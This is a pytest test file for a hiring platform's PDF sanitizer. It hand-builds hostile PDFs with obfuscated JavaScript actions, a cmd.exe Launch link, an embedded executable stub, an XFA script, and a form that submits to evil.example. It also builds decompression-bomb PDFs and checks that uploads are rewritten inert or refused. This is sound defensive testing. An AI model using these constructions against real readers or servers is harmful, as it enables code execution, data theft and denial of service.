"""A PDF a candidate uploads reaches reviewers re-written, with nothing in it that can act: no
scripts, actions, attachments, XFA forms or metadata, however the file spells or hides them."""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import zlib

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from PIL import Image
from reportlab.lib.utils import ImageReader
from reportlab.pdfgen import canvas

from hiring.exercises import pdfsafety
from hiring.exercises.models import Answer
from hiring.exercises.uploads import UploadRefused, check_upload
from hiring.extensions import db
from tests.helpers import CandidateBrowser, make_candidate, make_invitation

pytestmark = pytest.mark.skipif(not (shutil.which("qpdf") and shutil.which("pdftotext")),
                                reason="needs qpdf and pdftotext (poppler-utils)")

#: What must not be left anywhere in a stored PDF, read decompressed and without object streams.
ACTIVE_NAMES = (b"/JavaScript", b"/JS", b"/OpenAction", b"/AA", b"/EmbeddedFile", b"/XFA", b"/Launch",
                b"/SubmitForm", b"/GoToR", b"/FileAttachment", b"/EF", b"/ImportData", b"/GoToE",
                b"/Rendition", b"/Screen", b"/EmbeddedFiles", b"/NeedsRendering", b"/Collection", b"/PieceInfo",
                b"/Sound", b"/Movie", b"/RichMedia", b"/RichMediaExecute", b"/3D")
PAYLOADS = (b"app.alert", b"cmd.exe", b"MZpayload", b"<xdp:xdp", b"javascript:", b"Ana Souza")


def raw_pdf(*objects: bytes) -> bytes:
    """A PDF written by hand, object 1 the catalog, with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R /Info << /Author (Ana Souza) >> >>\n" % (len(objects) + 1)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(data), data)


PAGE_TEXT = stream(b"", b"BT /F1 24 Tf 72 700 Td (Launch week visual) Tj ET")
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def hostile_pdf() -> bytes:
    """Every kind of active content the issue lists, the OpenAction spelled with name escapes."""
    xfa = stream(b"", b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(5)</script></xdp:xdp>')
    return raw_pdf(
        # 1 catalog: the exact OpenAction, named JavaScript, embedded files, an XFA form
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction<</S/#4Aava#53cript/#4AS(app.alert(1))>>"
        b" /Names << /JavaScript << /Names [(init) 5 0 R] >> /EmbeddedFiles << /Names [(tool.exe) 6 0 R] >> >>"
        b" /AcroForm << /Fields [9 0 R] /XFA 8 0 R /NeedsRendering true >>"
        b" /AA << /WC << /S /JavaScript /JS (app.alert\\(6\\)) >> >> /Metadata 11 0 R"
        b" /Collection << /Type /Collection /View /D >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        # 3 the page: an additional action on opening it, and annotations that launch, attach, script
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 10 0 R >> >> /PieceInfo << /Illustrator << /Private (ai) >> >>"
        b" /A#41 << /O << /S /JavaScript /JS (app.alert\\(3\\)) >> >>"
        b" /Annots [12 0 R 13 0 R 14 0 R 15 0 R 9 0 R 16 0 R 17 0 R 18 0 R 19 0 R 20 0 R 21 0 R 22 0 R 23 0 R] >>",
        PAGE_TEXT,
        b"<< /S /JavaScript /JS (app.alert\\(2\\)) >>",
        b"<< /Type /Filespec /F (tool.exe) /EF << /F 7 0 R >> >>",
        stream(b"/Type /EmbeddedFile", b"MZpayload"),
        xfa,
        # 9 a form field whose button submits the form and runs a script on focus
        b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (send) /Rect [0 0 10 10] /P 3 0 R"
        b" /A << /S /SubmitForm /F (https://evil.example/collect) >>"
        b" /AA << /Fo << /S /JavaScript /JS (app.alert\\(4\\)) >> >> >>",
        FONT,
        stream(b"/Type /Metadata /Subtype /XML", b"<x:xmpmeta><dc:creator>Ana Souza</dc:creator></x:xmpmeta>"),
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /Launch /F (cmd.exe) >> >>",
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 6 0 R >>",
        b"<< /Type /Annot /Subtype /Link /Rect [60 0 90 50] /A << /S /URI /URI (javascript:app.alert\\(7\\)) >> >>",
        # a web link that stays, though the actions chained after it go
        b"<< /Type /Annot /Subtype /Link /Rect [100 0 150 50] /A << /S /URI /URI (https://portfolio.example/ana)"
        b" /Next [<< /S /GoToR /F (other.pdf) /D [0 /Fit] >> << /S /GoToE /T << /R /C /N (x) >> >>"
        b" << /S /Rendition /OP 0 >> << /S /Sound /Sound 7 0 R >> << /S /Movie /T (clip) >>"
        b" << /S /RichMediaExecute /TA 18 0 R >> << /S /JavaScript /JS (app.alert\\(9\\)) >>] >> >>",
        b"<< /Type /Annot /Subtype /Text /Rect [200 0 220 20] /Contents (Note for the reviewer)"
        b" /AF [6 0 R] /Extra 6 0 R >>",
        b"<< /Type /Annot /Subtype /Link /Rect [230 0 250 20] /A << /S /ImportData /F (data.fdf) >> >>",
        b"<< /Type /Annot /Subtype /Screen /Rect [260 0 300 40] /T (clip) >>",
        *(b"<< /Type /Annot /Subtype /%s /Rect [310 0 330 20] >>" % kind
          for kind in (b"Sound", b"Movie", b"RichMedia", b"3D")),
        b"<< /Type /Annot /Subtype /Link /Rect [340 0 390 20] /A << /S /URI /URI (mailto:ana@example.org) >> >>",
    )


def normal_pdf(pages: int = 1, text: str = "Launch week visual", images: bool = False) -> bytes:
    """What a design tool exports: text, and with `images` a JPEG and a PNG photo on every page."""
    buffer = io.BytesIO()
    drawing = canvas.Canvas(buffer, pagesize=(595, 842))
    drawing.setAuthor("Ana Souza")
    for page in range(1, pages + 1):
        drawing.drawString(72, 760, f"{text} {page}")
        for number, kind in enumerate(("JPEG", "PNG") if images else ()):
            photo = io.BytesIO()
            Image.new("RGB", (400, 300), (10, 100 + 50 * number, 200)).save(photo, kind)
            photo.seek(0)
            drawing.drawImage(ImageReader(photo), 72, 100 + 320 * number, 400, 300)
        drawing.showPage()
    drawing.save()
    return buffer.getvalue()


def decompressed(pdf: bytes, tmp_path) -> bytes:
    """The PDF as qpdf --check accepts it, uncompressed and without object streams, to search."""
    source, target = tmp_path / "in.pdf", tmp_path / "qdf.pdf"
    source.write_bytes(pdf)
    check = subprocess.run(["qpdf", "--check", str(source)], capture_output=True, text=True)
    assert check.returncode == 0, check.stdout + check.stderr
    subprocess.run(["qpdf", "--qdf", "--object-streams=disable", str(source), str(target)], check=True)
    return target.read_bytes()


def page_text(pdf: bytes) -> str:
    return subprocess.run(["pdftotext", "-", "-"], input=pdf, capture_output=True, check=True).stdout.decode()


def assert_inert(pdf: bytes, tmp_path) -> bytes:
    plain = decompressed(pdf, tmp_path)
    left = [name for name in ACTIVE_NAMES + PAYLOADS if re.search(re.escape(name) + rb"(?![A-Za-z])", plain)]
    assert not left, f"still in the stored PDF: {left}"
    with pikepdf.open(io.BytesIO(pdf)) as parsed:
        assert Name.Info not in parsed.trailer and len(parsed.pages) >= 1
    return plain


def test_a_pdf_with_every_kind_of_active_content_is_stored_inert_with_its_page_and_web_link(tmp_path):
    hostile = hostile_pdf()
    assert b"/OpenAction<</S/#4Aava#53cript/#4AS(app.alert(1))>>" in hostile
    with pikepdf.open(io.BytesIO(hostile)) as parsed:  # the test file really holds what it claims
        assert Name.XFA in parsed.Root.AcroForm and parsed.Root.OpenAction.get(Name.S) == Name.JavaScript
        assert Name.AA in parsed.pages[0].obj
    checked = check_upload(hostile)
    assert checked.kind == "pdf" and checked.data != hostile
    plain = assert_inert(checked.data, tmp_path)
    assert "Launch week visual" in page_text(checked.data)
    assert b"https://portfolio.example/ana" in plain and b"mailto:ana@example.org" in plain
    assert b"Note for the reviewer" in plain


def test_active_content_hidden_in_compressed_object_streams_is_found(tmp_path):
    with pikepdf.open(io.BytesIO(hostile_pdf())) as parsed:
        hidden = io.BytesIO()
        parsed.save(hidden, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    assert b"JavaScript" not in hidden.getvalue() and b"app.alert" not in hidden.getvalue()
    assert_inert(check_upload(hidden.getvalue()).data, tmp_path)


def test_a_normal_pdf_keeps_its_pages_text_and_images_and_loses_its_author(tmp_path):
    original = normal_pdf(pages=3, images=True)
    assert b"Ana Souza" in original
    checked = check_upload(original)
    assert_inert(checked.data, tmp_path)
    text = page_text(checked.data)
    assert all(f"Launch week visual {page}" in text for page in (1, 2, 3))
    with pikepdf.open(io.BytesIO(checked.data)) as parsed:
        assert parsed.is_linearized and len(parsed.pages) == 3
        assert all(len(page.get_images()) == 2 for page in parsed.pages)


def test_a_pdf_with_only_an_owner_password_is_stored_decrypted(tmp_path):
    with pikepdf.open(io.BytesIO(normal_pdf())) as parsed:
        restricted = io.BytesIO()
        parsed.save(restricted, encryption=pikepdf.Encryption(owner="boss", user="", allow=pikepdf.Permissions(
            extract=False)))
    assert pikepdf.open(io.BytesIO(restricted.getvalue())).is_encrypted
    checked = check_upload(restricted.getvalue())
    with pikepdf.open(io.BytesIO(checked.data)) as parsed:
        assert not parsed.is_encrypted
    assert "Launch week visual 1" in page_text(checked.data)


def _refusal(data: bytes, **limits) -> str:
    with pytest.raises(UploadRefused) as refused:
        check_upload(data, **limits)
    return refused.value.message


def test_pdfs_that_cannot_be_checked_are_refused():
    with pikepdf.open(io.BytesIO(normal_pdf())) as parsed:
        locked = io.BytesIO()
        parsed.save(locked, encryption=pikepdf.Encryption(owner="boss", user="secret"))
    assert "password" in _refusal(locked.getvalue())
    assert "damaged" in _refusal(b"%PDF-1.7\nnothing here that a parser could use\n%%EOF\n")
    assert "damaged" in _refusal(raw_pdf(b"<< /Type /Catalog >>"))  # no pages at all
    assert "damaged" in _refusal(normal_pdf()[:-400])  # cut off in transfer


def test_the_size_and_page_limits_and_the_decompression_bomb_guards_hold():
    assert "larger than" in _refusal(normal_pdf(), max_bytes=1000)
    assert _refusal(normal_pdf(pages=pdfsafety.MAX_PAGES + 1)) == (
        f"The PDF has {pdfsafety.MAX_PAGES + 1} pages; the limit is {pdfsafety.MAX_PAGES}.")
    check_upload(normal_pdf(pages=pdfsafety.MAX_PAGES))

    # 300 MB of page content in a 300 KB file: qpdf stops inflating at the per-stream limit.
    bomb = zlib.compress(b" " * (300 * 2**20), 9)
    flate_bomb = raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                         b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
                         stream(b"/Filter /FlateDecode", bomb))
    assert len(flate_bomb) < 400_000 and "too large or complex" in _refusal(flate_bomb)
    # The same bomb in front of a JPEG filter, which qpdf alone would not decode.
    wrapped = flate_bomb.replace(b"/Filter /FlateDecode", b"/Filter [/FlateDecode /DCTDecode]")
    assert "too large or complex" in _refusal(wrapped)

    # Many streams, each under the limit, that together inflate past the total.
    chunk = zlib.compress(b" " * (100 * 2**20), 9)
    pages = [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents %d 0 R >>" % (6 + i)
             for i in range(3)]
    many = raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R 4 0 R 5 0 R] /Count 3 >>",
                   *pages, *[stream(b"/Filter /FlateDecode", chunk)] * 3)
    assert "too large or complex" in _refusal(many)

    # An image inside the PDF obeys the same pixel limit as an uploaded image.
    huge_image = raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /XObject << /Im 4 0 R >> >> >>",
        stream(b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8"
               b" /ColorSpace /DeviceGray /Filter /DCTDecode", b"\xff\xd8\xff\xd9"))
    assert "too large or complex" in _refusal(huge_image, max_pixels=40_000_000)

    # A million tiny objects would keep the walk busy: refused at the object limit.
    nested = b"[" + b"[0]" * (pdfsafety.MAX_OBJECTS + 1) + b"]"
    crowded = raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                      b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Crowd " + nested + b" >>")
    assert "too large or complex" in _refusal(crowded)


def test_a_reviewer_downloads_the_rewritten_pdf_not_the_uploaded_one(app, scene, browser, tmp_path):
    candidate = make_candidate(scene.opening, name="Pat Pdf")
    invitation, token = make_invitation(candidate, ("visual-brief",))
    taker = CandidateBrowser(app.test_client(), token)
    taker.start()
    uploaded = taker.upload("visual-brief", hostile_pdf(), "design.pdf")
    assert uploaded.status_code == 200 and uploaded.json["kind"] == "pdf", uploaded.json
    assert taker.submit(confirm=True).status_code == 303
    db.session.expire_all()
    answer = db.session.scalar(db.select(Answer).filter_by(invitation_id=invitation.id, item_key="file"))
    browser.login(scene.interviewer)
    served = browser.get(f"/reviews/{invitation.id}/files/{answer.id}")
    assert served.status_code == 200 and served.headers["Content-Type"] == "application/pdf"
    assert_inert(served.data, tmp_path)
    assert "Launch week visual" in page_text(served.data)


def test_the_walk_neutralises_actions_reached_only_through_shared_objects():
    """An action object referenced from a slot the walk keeps (here an outline) is emptied too."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    action = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(8)")))
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Extra=Array([action])))
    out = io.BytesIO()
    pdf.save(out)
    with pikepdf.open(io.BytesIO(check_upload(out.getvalue()).data)) as parsed:
        assert list(parsed.Root.Outlines.Extra[0].keys()) == []
